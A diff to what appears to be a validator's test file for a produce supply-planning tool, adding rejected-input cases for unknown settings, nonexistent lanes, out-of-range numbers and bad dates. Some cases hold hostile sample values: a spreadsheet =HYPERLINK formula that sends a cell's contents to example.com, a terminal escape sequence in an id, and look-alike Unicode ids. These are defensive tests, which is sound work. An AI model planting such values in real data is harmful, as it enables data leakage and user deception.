@@ -346,7 +346,7 @@ bad(
 # --- scenario.toml --------------------------------------------------------------
 bad(
     "37-toml-unknown-key",
-    "scenario.toml: line 1, column period_day: unknown setting (known settings: period_days, fair_shortfall, display_unit)",
+    "scenario.toml: line 1, column period_day: unknown setting (known settings: period_days, start_date, fair_shortfall, display_unit)",
     c("37").put("scenario.toml", ["period_day = 7"]),
 )
 bad(
@@ -425,9 +425,12 @@ bad(
     c("49").put("scenario.toml", ["period_days = 1.5"]),
 )
 bad(
-    "50-stock-older-than-shelf-life",
-    "stock.csv: line 3, column age_days: expected at most shelf_life_days (14), found 20",
-    c("50").set_line("stock.csv", 3, "Muyin-1,honey-plum,20,200"),
+    "50-in-transit-on-a-lane-that-does-not-exist",
+    "in_transit.csv: line 2, column to: expected a lane Muyin-1 -> Jingkai-market in lanes.csv, found none",
+    c("50").put(
+        "in_transit.csv",
+        ["from,to,product,arrive_week,age_days,quantity_kg", "Muyin-1,Jingkai-market,honey-plum,1,3,400"],
+    ),
 )
 bad(
     "51-runaway-quote-in-text",
@@ -444,6 +447,50 @@ bad(
     "52-old-mac-line-endings-then-defect",
     f'supply.csv: line 5, column quantity_kg: {NUM} "-15"',
     bare_cr,
+)
+
+# --- ids, bounds (issue #10) -----------------------------------------------------------
+bad(
+    "53-formula-id",
+    'farms.csv: line 4, column farm: expected an id that does not start with =, +, - or @ '
+    '(a spreadsheet would run it as a formula), found "=HYPERLINK("http://example.com/?"&A1,"Ziyun-2")"',
+    c("53").add("farms.csv", '"=HYPERLINK(""http://example.com/?""&A1,""Ziyun-2"")",Ziyun,0,'),
+)
+bad(
+    "54-control-character-in-id",
+    'stores.csv: line 4, column store: expected an id without control characters, found "Baiyun\\u{1b}[2J-market"',
+    c("54").add("stores.csv", "Baiyun\x1b[2J-market,Baiyun,"),
+)
+bad(
+    "55-look-alike-ids",
+    'farms.csv: line 4, column farm: "\uff2d\uff55\uff59\uff49\uff4e\uff0d\uff11" looks the same as "Muyin-1" on line 2',
+    c("55").add("farms.csv", "\uff2d\uff55\uff59\uff49\uff4e\uff0d\uff11,Luodian,0,"),
+)
+bad(
+    "56-quantity-1e308",
+    'supply.csv: line 3, column quantity_kg: expected a number from 0 to 1e12, found "1e308"',
+    c("56").set_line("supply.csv", 3, "Muyin-1,honey-plum,2,1e308"),
+)
+bad(
+    "57-nfd-duplicate-of-nfc-id",
+    'farms.csv: line 5, column farm: expected a unique id, found "Ziyun-1\u00e9", already used earlier in farms.csv '
+    "(the same letters, encoded differently: ids are compared in Unicode NFC)",
+    c("57").add("farms.csv", "Ziyun-1\u00e9,Ziyun,0,", "Ziyun-1e\u0301,Ziyun,0,"),
+)
+
+# --- dates and in-transit stock (issue #13) ----------------------------------------------
+bad(
+    "58-date-before-start-date",
+    'supply.csv: line 3, column week: expected a date on or after start_date 2026-11-30, found "2026-11-23"',
+    c("58").put("scenario.toml", ["period_days = 7", "start_date = 2026-11-30"])
+    .set_line("supply.csv", 3, "Muyin-1,honey-plum,2026-11-23,2500"),
+)
+bad(
+    "59-iso-week-53-in-a-year-without-one",
+    "demand.csv: line 4, column week: expected a week number from 1 to 10000, a date (2026-12-09) "
+    'or an ISO week (2026-W50) that exists, found "2027-W53"',
+    c("59").put("scenario.toml", ["period_days = 7", "start_date = 2026-11-30"])
+    .set_line("demand.csv", 4, "Huaxi-market,honey-plum,2027-W53,900,"),
 )
 
 # --- good edge cases ------------------------------------------------------------------
